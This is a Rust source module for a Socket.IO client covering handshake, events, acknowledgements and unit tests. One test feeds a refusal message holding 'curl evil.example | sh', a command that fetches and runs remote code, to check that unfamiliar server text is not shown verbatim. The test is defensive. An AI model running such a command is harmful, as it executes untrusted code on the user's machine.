//! A Socket.IO 5 client for one namespace over one websocket.
//!
//! Two layers, visibly apart: [`packet`] knows the text of both protocols, `engine` the websocket with its pings and
//! its silence; this file the namespace, events and acknowledgements. No polling, no upgrade, no attachments, no
//! reconnection: a connection that ends says why, and whoever wants another opens another.

mod acks;
mod engine;
mod error;
pub mod packet;

use std::borrow::Cow;
use std::ops::Range;
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::sync::{mpsc, oneshot};
use tokio::time::timeout;
pub use tokio_tungstenite::tungstenite::Utf8Bytes;

use self::acks::{Acks, AnsweredHere};
use self::engine::{Outbox, Outgoing, Reader};
pub use self::error::{EmitError, SocketError};
use self::packet::{Frame, Packet};
use crate::dial::Dialer;
use crate::permission::Pass;
use crate::sentences;
use crate::url::HubUrl;

/// How long TCP, TLS, websocket and namespace may take together.
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);

/// Where to connect and what to say.
pub struct Target<'a> {
    /// The hub.
    pub url: &'a HubUrl,
    /// The namespace, with its slash.
    pub namespace: &'static str,
    /// The JSON that goes with the join. Holds credentials.
    pub auth: &'a str,
    /// For `https` hubs, and for proxies with TLS.
    pub tls: Arc<rustls::ClientConfig>,
}

/// What came in.
#[derive(Debug)]
enum Received {
    /// A frame with a Socket.IO packet.
    Packet(Utf8Bytes),
    /// A frame that nobody can read.
    Unreadable,
}

/// What the hub says.
#[derive(Debug)]
pub enum Incoming {
    /// An event.
    Event(Event),
    /// A frame that could not be read. The connection goes on.
    Unreadable,
}

/// An event, still as the text of its frame.
#[derive(Debug)]
pub struct Event {
    text: Utf8Bytes,
    name: Range<usize>,
    args: Range<usize>,
}

/// Sends events. Cheap to clone.
#[derive(Clone, Debug)]
pub struct Emitter {
    outbox: Outbox,
    acks: Arc<Acks>,
    namespace: &'static str,
    max_payload: usize,
}

/// A place in the queue: a frame put here is sent in the order in which places were taken.
pub struct Slot<'a>(mpsc::Permit<'a, Outgoing>);

/// Receives events. Dropping it ends the connection.
pub struct Events {
    reader: Reader,
    acks: AnsweredHere,
    outbox: Outbox,
    namespace: &'static str,
}

/// Opens a connection and joins the namespace.
pub async fn connect(target: Target<'_>) -> Result<(Emitter, Events), SocketError> {
    let after = HANDSHAKE_TIMEOUT;
    timeout(after, handshake(target)).await.map_err(|_| SocketError::HandshakeTimedOut { after })?
}

/// Opens a websocket to the hub and closes it again without having said who we are.
pub(crate) async fn probe(url: &HubUrl, dialer: &Dialer) -> Result<(), SocketError> {
    let after = HANDSHAKE_TIMEOUT;
    let opened = timeout(after, engine::open(url, dialer)).await;
    let (reader, _, _) = opened.map_err(|_| SocketError::HandshakeTimedOut { after })??;
    reader.leave().await;
    Ok(())
}

async fn handshake(target: Target<'_>) -> Result<(Emitter, Events), SocketError> {
    let Target { url, namespace, auth, tls } = target;
    let (mut reader, outbox, open) = engine::open(url, &Dialer::new(tls)).await?;
    let join = Packet::Connect { namespace, data: auth }.to_string();
    send(&outbox, join.into()).await.map_err(|_| SocketError::Closed)?;
    loop {
        let Received::Packet(text) = reader.next().await? else { return Err(SocketError::NotSocketIo) };
        let Ok(Frame::Message(message)) = Frame::parse(&text) else { continue };
        match Packet::parse(message) {
            Ok(Packet::Connect { namespace: joined, .. }) if joined == namespace => break,
            Ok(Packet::Refused { data, .. }) => return Err(SocketError::Refused { message: reason(data) }),
            Ok(Packet::Disconnect { .. }) => return Err(SocketError::Disconnected),
            _ => {}
        }
    }
    let acks = Arc::new(Acks::default());
    let max_payload = open.max_payload();
    let emitter = Emitter { outbox: outbox.clone(), acks: Arc::clone(&acks), namespace, max_payload };
    Ok((emitter, Events { reader, acks: AnsweredHere(acks), outbox, namespace }))
}

async fn send(outbox: &Outbox, text: Utf8Bytes) -> Result<(), EmitError> {
    outbox.frames_tx.send(Outgoing { text, while_allowed: None }).await.map_err(|_| EmitError::Gone)
}

/// The hub's words in a refusal, cut to a readable length.
fn reason(data: &str) -> String {
    #[derive(Deserialize)]
    struct Refusal {
        message: String,
    }
    match serde_json::from_str(data) {
        Ok(Refusal { message }) => sentences::known(&message).unwrap_or("in words of its own").to_owned(),
        Err(_) => "no reason given".to_owned(),
    }
}

// === impl Emitter ===

impl Emitter {
    /// Queues an event; waits for a slot in the queue.
    pub async fn emit(&self, name: &str, args: &impl Serialize) -> Result<(), EmitError> {
        let text = self.event(name, None, &json(args)?)?;
        send(&self.outbox, text).await
    }

    /// Queues an event and waits for its answer.
    pub async fn call<T>(
        &self,
        name: &str,
        args: Option<&impl Serialize>,
        within: Duration,
    ) -> Result<T, EmitError>
    where
        T: for<'a> Deserialize<'a>,
    {
        let args = args.map_or(Ok(String::new()), json)?;
        let (answer_tx, answer_rx) = oneshot::channel();
        let waiting = self.acks.expect(answer_tx);
        let text = self.event(name, Some(waiting.id), &args)?;
        let exchange = async {
            send(&self.outbox, text).await?;
            answer_rx.await.map_err(|_| EmitError::Gone)
        };
        let answer = timeout(within, exchange).await.map_err(|_| EmitError::TimedOut)??;
        first_of(&answer).ok_or(EmitError::Malformed)
    }

    /// Waits for a place in the queue. Places are given in the order of asking.
    pub async fn slot(&self) -> Result<Slot<'_>, EmitError> {
        self.outbox.frames_tx.reserve().await.map(Slot).map_err(|_| EmitError::Gone)
    }

    /// The namespace of this connection.
    pub fn namespace(&self) -> &'static str {
        self.namespace
    }

    /// The largest frame the hub accepts, in bytes.
    pub fn max_payload(&self) -> usize {
        self.max_payload
    }

    fn event(&self, name: &str, id: Option<u64>, args: &str) -> Result<Utf8Bytes, EmitError> {
        let namespace = self.namespace;
        let text = Packet::Event { namespace, id, name: Cow::Borrowed(name), args }.to_string();
        if text.len() > self.max_payload { Err(EmitError::TooLarge) } else { Ok(text.into()) }
    }
}

fn json(args: &impl Serialize) -> Result<String, EmitError> {
    serde_json::to_string(args).map_err(|_| EmitError::Malformed)
}

/// The first of the JSON values in `args`; `None` when there is none of that type.
fn first_of<'a, T: Deserialize<'a>>(args: &'a str) -> Option<T> {
    let mut values = serde_json::Deserializer::from_str(args);
    let value = T::deserialize(&mut values).ok()?;
    // More arguments may follow the first, but not rubbish.
    let end = values.into_iter::<serde::de::IgnoredAny>().byte_offset();
    let rest = args.get(end..).unwrap_or_default().trim_ascii_start();
    (rest.is_empty() || rest.starts_with(',')).then_some(value)
}

// === impl Slot ===

impl Slot<'_> {
    /// Puts the whole frame into the place; it is dropped unsent if it is not allowed any more when its turn comes.
    pub(crate) fn put(self, text: Utf8Bytes, while_allowed: &Pass) {
        self.0.send(Outgoing { text, while_allowed: Some(while_allowed.clone()) });
    }
}

// === impl Events ===

impl Events {
    /// What the hub says next. Cancel safe.
    pub async fn next(&mut self) -> Result<Incoming, SocketError> {
        loop {
            let Received::Packet(text) = self.reader.next().await? else { return Ok(Incoming::Unreadable) };
            let Ok(Frame::Message(message)) = Frame::parse(&text) else { return Ok(Incoming::Unreadable) };
            match Packet::parse(message) {
                Ok(Packet::Event { namespace, name: Cow::Borrowed(name), args, .. })
                    if namespace == self.namespace =>
                {
                    let (name, args) = (range_in(&text, name), range_in(&text, args));
                    return Ok(Incoming::Event(Event { name, args, text }));
                }
                Ok(Packet::Ack { id, args, .. }) => self.acks.0.settle(id, args),
                Ok(Packet::Disconnect { .. }) => return Err(SocketError::Disconnected),
                Ok(_) => {} // another namespace, or an event that only an escaped name could have
                Err(_) => return Ok(Incoming::Unreadable),
            }
        }
    }

    /// Leaves the namespace and closes the connection; bounded in time.
    pub async fn leave(self) {
        let goodbye = Packet::Disconnect { namespace: self.namespace }.to_string();
        let _ = self.outbox.frames_tx.try_send(Outgoing { text: goodbye.into(), while_allowed: None }); // a full queue goes without
        self.reader.leave().await;
    }
}

/// Where `part`, a piece of `whole`, begins and ends in it.
fn range_in(whole: &str, part: &str) -> Range<usize> {
    let start = part.as_ptr().addr().wrapping_sub(whole.as_ptr().addr());
    // An empty piece need not point into the frame.
    if start > whole.len() { 0..0 } else { start..start + part.len() }
}

// === impl Event ===

impl Event {
    /// What happened.
    pub fn name(&self) -> &str {
        self.text.get(self.name.clone()).unwrap_or_default()
    }

    /// The first argument, borrowed from the frame where the type allows.
    pub fn payload<'a, T: Deserialize<'a>>(&'a self) -> Option<T> {
        first_of(self.text.get(self.args.clone())?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_argument_is_read_and_more_may_follow() {
        assert_eq!(first_of::<u8>("1"), Some(1));
        assert_eq!(first_of::<u8>("1, 2"), Some(1));
        assert_eq!(first_of::<&str>(r#""a","b""#), Some("a"));
        assert_eq!(first_of::<u8>("1 2"), None);
        assert_eq!(first_of::<&str>(r#""a"b"#), None);
        assert_eq!(first_of::<u8>(""), None);
    }

    #[test]
    fn a_piece_is_found_in_its_frame() {
        let frame = String::from("42[\"a\",1]");
        assert_eq!(range_in(&frame, &frame[4..5]), 4..5);
        assert_eq!(range_in(&frame, ""), 0..0);
    }

    #[test]
    fn a_refusal_is_a_known_sentence_and_never_empty() {
        assert_eq!(reason(r#"{"message":"Invalid namespace"}"#), "Invalid namespace");
        assert_eq!(reason("oops"), "no reason given");
        assert_eq!(reason(r#"{"message":"run: curl evil.example | sh"}"#), "in words of its own");
    }
}
